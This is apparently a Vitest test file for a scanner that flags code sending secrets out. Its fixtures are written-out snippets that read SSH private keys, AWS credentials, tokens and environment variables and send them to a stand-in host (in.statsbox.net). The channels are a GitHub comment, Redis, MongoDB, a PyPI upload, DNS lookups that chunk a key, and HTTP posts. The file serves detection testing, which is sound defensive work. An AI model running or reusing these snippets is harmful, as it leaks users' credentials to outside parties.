import { expect, test } from "vitest";
import { found } from "../../test-support/package-of";

const sent = async (path: string, code: string) =>
  (await found(path, code)).filter((one) => /exfiltration/.test(one)).map((one) => one.replace(/ .*/, ""));
const KEYS = "open(os.path.expanduser('~/.ssh/id_rsa')).read()";

test.each([
  [
    "a client of a code host",
    "a.js",
    'const { Octokit } = require("@octokit/rest");\nconst kit = new Octokit({ auth: process.env.GITHUB_TOKEN });\nkit.issues.createComment({ owner: "x", repo: "y", body: require("fs").readFileSync(process.env.HOME + "/.aws/credentials", "utf8") });\n',
    ["block"],
  ],
  [
    "a client that is made with an address",
    "a.py",
    `import os, redis\nredis.from_url("rediss://in.statsbox.net:6380").publish("k", ${KEYS})\n`,
    ["block"],
  ],
  [
    "a table of a database that is made with an address",
    "a.py",
    `import os, pymongo\ndb = pymongo.MongoClient("mongodb://in.statsbox.net/x")\ndb.insert_one({"k": ${KEYS}})\n`,
    ["block"],
  ],
  [
    "a package that is published",
    "a.py",
    'import os, pathlib\npathlib.Path("/tmp/pk/data.py").write_text("X = " + repr(dict(os.environ)))\nos.system("cd /tmp/pk && twine upload dist/*")\n',
    ["block"],
  ],
  [
    "names that are looked up, piece by piece",
    "a.js",
    'const { execSync } = require("child_process");\nconst key = require("fs").readFileSync(process.env.HOME + "/.ssh/id_rsa").toString("hex");\nfor (const piece of key.match(/.{1,60}/g) || []) execSync("nslookup " + piece + ".in.statsbox.net");\n',
    ["block"],
  ],
])("finds keys that leave by %s", async (_, path, code, expected) => {
  expect(await sent(path, code)).toEqual(expected);
});

test("takes a map with an address in it for no client", async () => {
  const code =
    'from dotenv import dotenv_values\nenv = dict({"ROOT": "https://in.statsbox.net"})\nenv.update(dotenv_values(".env"))\n';
  expect(await sent("a.py", code)).toEqual([]);
});

test.each([
  [
    "a comment with the client's own login",
    "a.js",
    'const { Octokit } = require("@octokit/rest");\nconst kit = new Octokit({ auth: process.env.GITHUB_TOKEN });\nkit.issues.createComment({ owner: "x", repo: "y", body: process.argv[2] });\n',
  ],
  [
    "settings in a store of the user's",
    "a.py",
    'import os, redis\nredis.from_url("redis://localhost:6379").set("home", os.environ["HOME"])\n',
  ],
  [
    "a package of the user's",
    "a.py",
    'import os, pathlib\npathlib.Path("version.py").write_text("V = " + os.environ["VERSION"])\nos.system("npm publish")\n',
  ],
  [
    "a backup in the user's own bucket",
    "a.py",
    'import boto3, os, tarfile\nwith tarfile.open("/tmp/b.tgz", "w:gz") as t:\n    t.add(os.path.expanduser("~/Documents"))\nboto3.client("s3").upload_file("/tmp/b.tgz", os.environ["BUCKET"], "b.tgz")\n',
  ],
])("leaves %s alone", async (_, path, code) => {
  expect(await sent(path, code)).toEqual([]);
});

test("leaves to a person what goes to a store that the user's own login opens", async () => {
  const code = (call: string) =>
    `import boto3, os\ntext = open(os.path.expanduser("~/.config/gh/hosts.yml")).read()\n${call}\n`;
  expect(
    await sent("a.py", code('boto3.client("s3").put_object(Bucket=os.environ["BUCKET"], Key="k", Body=text)')),
  ).toEqual(["warn"]);
  expect(await sent("a.py", code('import requests\nrequests.post("https://in.statsbox.net/u", data=text)'))).toEqual([
    "block",
  ]);
});

test.each([
  [
    "of Python",
    "a.py",
    'import os, requests\nfrom openai import OpenAI\nclient = OpenAI(api_key=os.getenv("OPENAI_API_KEY"))\nreply = client.chat.completions.create(model="m").choices[0].message.content\nrequests.post("https://notes.statsbox.net/n", json={"text": reply})\n',
  ],
  [
    "of JavaScript",
    "a.mjs",
    'import OpenAI from "openai";\nconst client = new OpenAI({ apiKey: process.env.OPENAI_API_KEY });\nconst reply = await client.responses.create({ model: "m" });\nawait fetch("https://notes.statsbox.net/n", { method: "POST", body: JSON.stringify({ text: reply.output_text }) });\n',
  ],
])("what the client of a service answers holds none of its keys: %s", async (_, path, code) => {
  expect(await sent(path, code)).toEqual([]);
});

test("a key that is sent beside what a client answers is seen", async () => {
  const code =
    'import os, requests\nfrom openai import OpenAI\nkey = os.getenv("OPENAI_API_KEY")\nreply = OpenAI(api_key=key).responses.create(model="m")\nrequests.post("https://notes.statsbox.net/n", json={"text": reply.output_text, "k": key})\n';
  expect(await sent("a.py", code)).toEqual(["warn"]);
});

test.each([
  [
    "a.mjs",
    'import { Bag } from "bag";\nconst bag = new Bag({ token: process.env.NPM_TOKEN });\nawait fetch("https://in.statsbox.net/c", { method: "POST", body: bag.toString() });\n',
  ],
  [
    "a.py",
    'import os, requests\nfrom types import SimpleNamespace\nbag = SimpleNamespace(token=os.environ["NPM_TOKEN"])\nrequests.post("https://in.statsbox.net/c", data=bag.__repr__())\n',
  ],
])("a key that something else was made with leaves by what that gives: %s", async (path, code) => {
  expect(await sent(path, code)).toEqual(["warn"]);
});
